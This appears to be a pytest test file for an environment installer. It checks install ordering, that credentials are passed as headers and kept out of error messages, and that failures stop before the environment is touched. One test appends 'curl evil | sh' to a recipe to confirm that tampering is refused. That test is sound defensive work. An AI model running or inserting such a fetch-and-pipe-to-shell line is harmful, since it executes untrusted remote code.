"""The install core with fakes for its source, destination, installer and recipe runner: which
artifacts go where, in what order, the recipe last, and what is refused before the env is
touched."""

from __future__ import annotations

import subprocess
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

import msgspec
import pytest
from envgen.credentials import Credential, Credentials
from envgen.errors import InputError, ToolError, VerificationError
from envgen.installer.core import (
    CondaPart,
    Installer,
    PipPart,
    Recipe,
    RecipeOptions,
    Request,
    install,
)
from envgen.installer.sources import LocalSource
from envgen.lockio.exports.names import requirements_name
from envgen.model import CondaEntry, Lock, PipEntry, Profile
from envgen.recipe.render import render_recipe

from tests.support.builders import CANN, conda_entry, locked_source, make_lock, pip_entry

PLATFORM = "linux-64"
REQUIREMENTS = "demo.linux-64.requirements.txt"
RECIPE_OPTIONS = ("--profile", "quiet", "--skip-cann")
SECRET = "s3cret-token"  # noqa: S105 - a made-up credential the messages must not show
GIT = Credentials((Credential("https://git.example.org", "me", SECRET),))


def demo_lock(pip: tuple[PipEntry, ...] | None = None) -> Lock:
    """A lock with a conda and a pip part (`pip` when given) on two platforms, a source and a
    profile."""
    platforms = ("linux-64", "linux-aarch64")
    post = locked_source("post", "https://git.example.org/post.git", "main", "c" * 40)
    # Builds of their own per platform: each conda file is another artifact.
    names = ("python", "libx")
    conda = tuple(conda_entry(n, "1.0", p, build=f"h{p[6:]}") for p in platforms for n in names)
    if pip is None:
        pip = tuple(pip_entry(n, "2.0", p) for p in platforms for n in ("beta", "alpha"))
    profiles = (Profile("quiet", "less output", (("QUIET", "1"),)),)
    return make_lock(platforms=platforms, conda=conda, pip=pip, sources=(post,), profiles=profiles)


@dataclass
class Log:
    """What the fakes were asked, in order."""

    events: list[tuple[object, ...]] = field(default_factory=list)


@dataclass
class FakeSource:
    log: Log
    recipe_text: str | None = None  # None: the lock's own rendering
    archives_dir: Path | None = None
    archives_error: Exception | None = None

    def recipe(self, lock: Lock) -> Recipe:
        self.log.events.append(("read recipe",))
        text = render_recipe(lock) if self.recipe_text is None else self.recipe_text
        return Recipe(Path("/src/demo.install.sh"), text, {"GIT_DIR_HINT": "mirrors"}, GIT)

    def conda(self, lock: Lock, platform: str) -> CondaPart:
        self.log.events.append(("locate conda", platform))
        return CondaPart(lock.conda_for(platform))

    def pip(self, lock: Lock, platform: str, installer: Installer) -> PipPart | None:
        self.log.events.append(("locate pip", platform, installer.name))
        entries = lock.pip_for(platform)
        name = installer.derived_file(lock.env, platform)
        return PipPart(Path("/src/locks") / name, entries) if entries else None

    @contextmanager
    def archives(self, lock: Lock, platform: str) -> Iterator[Path | None]:
        self.log.events.append(("open archives", platform))
        if self.archives_error is not None:
            raise self.archives_error
        yield self.archives_dir
        self.log.events.append(("close archives",))


@dataclass
class FakeDestination:
    log: Log
    takes_conda: bool = True
    path: Path = Path("/envs/demo")
    kind: str = "conda prefix"

    @property
    def python(self) -> Path:
        return self.path / "bin" / "python"

    def create(self, lock: Lock, platform: str, conda: CondaPart) -> None:
        self.log.events.append(("create", str(self.path), tuple(e.name for e in conda.entries)))

    def activation(self, env: str) -> str:
        return f"activate {env}"


@dataclass
class FakeInstaller:
    log: Log
    name: str = "pip"
    runs_env_pip: bool = True

    def derived_file(self, env: str, platform: str) -> str:
        return requirements_name(env, platform)

    def install(self, python: Path, part: PipPart) -> None:
        names = tuple(e.name for e in part.entries)
        self.log.events.append(("pip install", str(python), part.requirements.name, names))

    def recipe_options(self) -> RecipeOptions:
        return RecipeOptions()


@dataclass
class FakeRunner:
    log: Log
    returncode: int = 0
    said: str = ""

    def __call__(
        self,
        cmd: Sequence[object],
        *,
        cwd: object = None,
        env: Mapping[str, str] | None = None,
        timeout: float | None = None,
        check: bool = True,
        input: str | None = None,
        secrets: tuple[str, ...] = (),
    ) -> subprocess.CompletedProcess[str]:
        self.log.events.append(("run", tuple(map(str, cmd))))
        self.env = dict(env or {})
        self.secrets = secrets
        return subprocess.CompletedProcess(list(map(str, cmd)), self.returncode, "", self.said)


def steps(log: Log) -> list[object]:
    """What the fakes were asked, by kind, in order."""
    return [event[0] for event in log.events]


Fakes = tuple[Log, FakeSource, FakeDestination, FakeInstaller, FakeRunner]


def fakes(*, takes_conda: bool = True, kind: str = "conda prefix") -> Fakes:
    log = Log()
    env = FakeDestination(log, takes_conda, kind=kind)
    return log, FakeSource(log), env, FakeInstaller(log), FakeRunner(log)


def test_a_conda_prefix_gets_the_platforms_conda_part_then_its_pip_part_then_the_recipe() -> None:
    log, source, prefix, installer, runner = fakes()
    lock = msgspec.structs.replace(demo_lock(), cann=CANN)
    request = Request(lock, PLATFORM, profiles=("quiet",), skip_cann=True)
    install(request, source, prefix, installer, runner=runner)
    assert log.events == [
        ("read recipe",),
        ("locate conda", PLATFORM),
        ("locate pip", PLATFORM, "pip"),
        ("open archives", PLATFORM),
        ("create", "/envs/demo", ("python", "libx")),
        ("pip install", "/envs/demo/bin/python", REQUIREMENTS, ("beta", "alpha")),
        ("run", ("sh", "/src/demo.install.sh", "--prefix", "/envs/demo", *RECIPE_OPTIONS)),
        ("close archives",),
    ]
    # The recipe's git gets the source's environment and its sources' credentials, as a header.
    assert runner.env["GIT_DIR_HINT"] == "mirrors"
    headers = [v for k, v in runner.env.items() if k.startswith("GIT_CONFIG_VALUE_")]
    assert len(headers) == 1 and headers[0].startswith("Authorization: Basic ")
    assert runner.secrets == (SECRET,)


def test_an_env_without_cann_passes_its_recipe_no_skip_cann() -> None:
    """Its recipe has no --skip-cann (nothing needs CANN): asking to skip it changes nothing."""
    log, source, prefix, installer, runner = fakes()
    request = Request(demo_lock(), PLATFORM, skip_cann=True)
    install(request, source, prefix, installer, runner=runner)
    assert ("run", ("sh", "/src/demo.install.sh", "--prefix", "/envs/demo")) in log.events


def test_a_venv_takes_no_conda_part_and_the_source_is_not_asked_for_one() -> None:
    log, source, venv, installer, runner = fakes(takes_conda=False, kind="venv")
    install(Request(demo_lock(), "linux-aarch64"), source, venv, installer, runner=runner)
    assert steps(log) == [
        "read recipe",
        "locate pip",
        "open archives",
        "create",
        "pip install",
        "run",
        "close archives",
    ]
    assert ("create", "/envs/demo", ()) in log.events


def test_an_edited_recipe_is_refused_before_any_artifact_is_located_or_the_env_made() -> None:
    log, source, prefix, installer, runner = fakes()
    lock = demo_lock()
    source.recipe_text = render_recipe(lock) + "curl evil | sh\n"
    with pytest.raises(VerificationError, match="differs from the recipe its lock renders"):
        install(Request(lock, PLATFORM), source, prefix, installer, runner=runner)
    assert log.events == [("read recipe",)]


@pytest.mark.parametrize(
    ("request_fields", "message"),
    [
        ({"platform": "osx-arm64"}, "the lock of demo has no osx-arm64 part"),
        ({"profiles": ("loud",)}, "the lock of demo has no profile 'loud'"),
    ],
)
def test_a_request_the_lock_cannot_meet_is_refused_first(
    request_fields: dict[str, object],
    message: str,
) -> None:
    log, source, prefix, installer, runner = fakes()
    platform = str(request_fields.get("platform", PLATFORM))
    profiles = tuple(map(str, request_fields.get("profiles", ())))  # type: ignore[call-overload]
    with pytest.raises(InputError, match=message):
        install(Request(demo_lock(), platform, profiles), source, prefix, installer, runner=runner)
    assert log.events == []


def test_a_platform_without_pip_packages_runs_no_installer_but_still_the_recipe() -> None:
    log, source, prefix, installer, runner = fakes()
    lock = demo_lock(pip=())
    install(Request(lock, PLATFORM), source, prefix, installer, runner=runner)
    assert steps(log) == [
        "read recipe",
        "locate conda",
        "locate pip",
        "open archives",
        "create",
        "run",
        "close archives",
    ]


def test_the_archives_wheels_reach_the_recipe_and_stay_until_it_has_run() -> None:
    log, source, prefix, installer, runner = fakes()
    source.archives_dir = Path("/tmp/wheels")
    install(Request(demo_lock(), PLATFORM), source, prefix, installer, runner=runner)
    (ran,) = [event[1] for event in log.events if event[0] == "run"]
    assert ran[-2:] == ("--archives", "/tmp/wheels")
    assert steps(log)[-2:] == ["run", "close archives"]


def test_an_archive_refused_leaves_the_env_untouched() -> None:
    log, source, prefix, installer, runner = fakes()
    source.archives_error = VerificationError("the archive holds other bytes")
    with pytest.raises(VerificationError, match="other bytes"):
        install(Request(demo_lock(), PLATFORM), source, prefix, installer, runner=runner)
    assert steps(log) == ["read recipe", "locate conda", "locate pip", "open archives"]


def test_a_failed_recipe_is_a_tool_error_without_the_credentials_it_was_given() -> None:
    log, source, prefix, installer, runner = fakes()
    said = f"fatal: could not read from https://me:{SECRET}@git.example.org\n"
    runner.returncode, runner.said = 3, said
    failed = r"demo.install.sh --prefix /envs/demo failed \(exit 3\)"
    with pytest.raises(ToolError, match=failed) as raised:
        install(Request(demo_lock(), PLATFORM), source, prefix, installer, runner=runner)
    assert SECRET not in str(raised.value)
    assert log.events[-1][0] == "run"


def local_source(lock: Lock, *, without: int = 0) -> LocalSource:
    """A local source holding every artifact of `lock` but the first `without` (pure: no file is
    read until the recipe is); a file several platforms share is held once, by its sha256."""
    artifacts: list[CondaEntry | PipEntry] = [*lock.conda, *lock.pip]
    files = {e.sha256: Path("/bundle") / e.url.rsplit("/", 1)[1] for e in artifacts[without:]}
    requirements = {p: Path(f"/bundle/requirements/{p}.txt") for p in lock.platforms}
    recipe, pip = Path("/bundle/demo.install.sh"), Path("/bundle/pip")
    return LocalSource(recipe, files, requirements, pip, {})


def test_a_local_source_points_the_conda_part_at_its_files_and_pip_at_its_directory() -> None:
    lock = demo_lock()
    source = local_source(lock)
    conda = source.conda(lock, PLATFORM)
    assert {e.name: e.url for e in conda.entries} == {
        "python": "file:///bundle/python-1.0-h64.conda",
        "libx": "file:///bundle/libx-1.0-h64.conda",
    }
    part = source.pip(lock, PLATFORM, FakeInstaller(Log(), name="uv"))
    assert part is not None
    assert part.requirements == Path("/bundle/requirements/linux-64.txt")
    assert part.find_links == Path("/bundle/pip")
    assert [e.name for e in part.entries] == ["beta", "alpha"] and not part.credentials


def test_a_local_source_lacking_an_artifact_fails_before_the_env_is_touched() -> None:
    log, _, prefix, installer, runner = fakes()
    lock = demo_lock()
    short = local_source(lock, without=1)
    files, requirements, where = short.files, short.requirements, short.find_links
    named = LocalSource(short.recipe_path, files, requirements, where, {}, "the bundle b.tar")
    with pytest.raises(VerificationError) as raised:
        named.conda(lock, PLATFORM)
    assert raised.value.message == "the bundle b.tar holds no file for python 1.0 (linux-64)"
    with pytest.raises(VerificationError, match=r"for python 1.0 \(linux-64\) and 1 more"):
        local_source(lock, without=3).conda(lock, PLATFORM)

    class RecipeInMemory(LocalSource):
        def recipe(self, lock: Lock) -> Recipe:
            return Recipe(self.recipe_path, render_recipe(lock), {})

    source = RecipeInMemory(short.recipe_path, files, requirements, where, {})
    with pytest.raises(VerificationError, match="holds no file for python"):
        install(Request(lock, PLATFORM), source, prefix, installer, runner=runner)
    assert log.events == []


def test_recipe_options_replace_the_installers_own_variables_and_keep_the_rest() -> None:
    options = RecipeOptions(("--uv", "/bin/uv"), {"UV_NO_CONFIG": "1"}, replaced=("UV_",))
    base = {"UV_INDEX_URL": "https://elsewhere.example/", "UV_NO_CONFIG": "0", "PATH": "/bin"}
    assert options.environment(base) == {"PATH": "/bin", "UV_NO_CONFIG": "1"}
    assert RecipeOptions().environment(base) == base
